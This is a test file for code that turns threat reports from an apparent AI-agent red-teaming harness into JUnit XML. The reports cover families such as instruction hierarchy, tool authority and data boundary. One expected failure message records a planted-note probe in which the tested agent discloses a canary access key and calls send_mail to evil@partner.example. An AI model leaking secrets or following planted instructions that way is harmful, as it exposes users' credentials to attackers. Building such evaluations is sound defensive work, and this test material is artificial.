import type { ThreatReport } from '@plugin-eval/core/documents/threat-report.ts';
import { caseScore } from '@plugin-eval/tests/support/case-scores.ts';
import { expectJunit } from '@plugin-eval/tests/support/expect-junit.ts';
import { liveThreatReport } from '@plugin-eval/tests/support/live-threat-documents.ts';
import { readXml, type XmlElement } from '@plugin-eval/tests/support/read-xml.ts';
import {
  benignCase,
  emptyThreatReport,
  leakingCase,
  reportThreat,
  unclearCase,
} from '@plugin-eval/tests/support/threat-documents.ts';
import { withUntrustedThreatText } from '@plugin-eval/tests/support/threat-untrusted-text.ts';
import { HOSTILE_TEXTS } from '@plugin-eval/tests/support/untrusted-text.ts';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { renderThreatJunit } from './threat-junit.ts';

const everything = reportThreat(undefined, {
  errors: [{ place: 'answers.jsonl:3', message: 'No JSON.' }],
  gates: [
    { name: 'max-exposure', subject: 'a', passed: false, value: 0.5, bound: 0.2, message: 'Too much.' },
    { name: 'min-resilience', subject: 'a', passed: null, value: null, bound: 0.2, message: 'No interval.' },
  ],
});

const suitesOf = (report: ThreatReport) => readXml(renderThreatJunit(report)).children;

function outcomes(suite: XmlElement | undefined): string[] {
  return (suite?.children ?? []).map(({ children }) =>
    `${children[0]?.name ?? 'passed'} ${children[0]?.attributes.type ?? ''}`.trim(),
  );
}

test.each([
  ['a report', everything],
  ['a report of nothing', emptyThreatReport()],
  ['a live report', liveThreatReport()],
  ...Object.entries(HOSTILE_TEXTS).flatMap(([name, text]): [string, ThreatReport][] => [
    [name, withUntrustedThreatText(everything, text)],
    [`${name}, live`, withUntrustedThreatText(liveThreatReport(), text)],
  ]),
])('%s is what Jenkins accepts, and counts rightly', (_, report) => {
  expectJunit(readXml(renderThreatJunit(report)));
});

test('whatever a name holds, the report is well-formed', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      expectJunit(readXml(renderThreatJunit(withUntrustedThreatText(everything, text))));
    }),
    { numRuns: 20 },
  );
});

test('a suite for each family, then harmless requests, errors and gates', () => {
  expect(suitesOf(everything).map(({ attributes }) => [attributes.name, attributes.tests])).toEqual([
    ['instruction_hierarchy', '4'],
    ['tool_authority', '5'],
    ['data_boundary', '5'],
    ['memory_and_context', '4'],
    ['identity_and_delegation', '4'],
    ['goal_integrity', '4'],
    ['benign', '3'],
    ['not scored', '1'],
    ['gates', '2'],
  ]);
});

test('a failed case is a failure of its first failure mode, and says what was found where', () => {
  const [suite] = suitesOf(reportThreat([leakingCase()]));
  const [failure] = suite?.children[0]?.children ?? [];
  expect(suite?.children[0]?.attributes).toMatchObject({
    name: 'db-planted-note',
    classname: 'threat.data_boundary.critical',
  });
  expect(failure?.attributes).toEqual({
    message:
      'Failed: the canary access_key in the answer and matches of hands_over. Tool call 2: send_mail {"to":"evil@partner.example"}',
    type: 'secret_disclosure',
  });
  expect(failure?.text).toContain('forbidden_tool_call:send_mail in tool call 2 (send_mail): Here');
  expect(failure?.text).not.toContain('orders');
});

test('an unclear case is a failure, since gates count it as failed; a passed one in doubt passes and says so', () => {
  const [suite] = suitesOf(
    reportThreat([
      unclearCase({ category: 'goal_integrity' }),
      caseScore({ id: 'b', probeId: 'b', category: 'goal_integrity', needsReview: true }),
      caseScore({ id: 'c', probeId: 'c', category: 'goal_integrity' }),
    ]),
  );
  expect(outcomes(suite)).toEqual(['failure unclear', 'system-out', 'passed']);
  expect(suite?.children[1]?.children[0]?.text).toContain('A person should review this');
});

test('a harmless request: helped passes, refused fails, unclear is skipped', () => {
  const report = reportThreat([caseScore()]);
  const cases = (['helped', 'refused', 'unclear'] as const).map((outcome, index) =>
    benignCase({ id: `b-${index}`, outcome }),
  );
  const suites = suitesOf({ ...report, benign: { ...report.benign, cases } });
  expect(outcomes(suites.at(-1))).toEqual(['passed', 'failure false-refusal', 'skipped']);
});

test('probes without a response are skipped; of nothing at all there is one case that says so', () => {
  const [suite] = suitesOf(emptyThreatReport());
  expect(suite?.attributes).toMatchObject({ name: 'unanswered', tests: '1', skipped: '1' });
  const nothing = emptyThreatReport();
  const [alone] = suitesOf({ ...nothing, probes: { ...nothing.probes, unanswered: [] } });
  expect(outcomes(alone)).toEqual(['error not-scored']);
});

test('a gate that could not be measured is an error, and no failure', () => {
  expect(outcomes(suitesOf(everything).at(-1))).toEqual(['failure max-exposure', 'error min-resilience']);
});
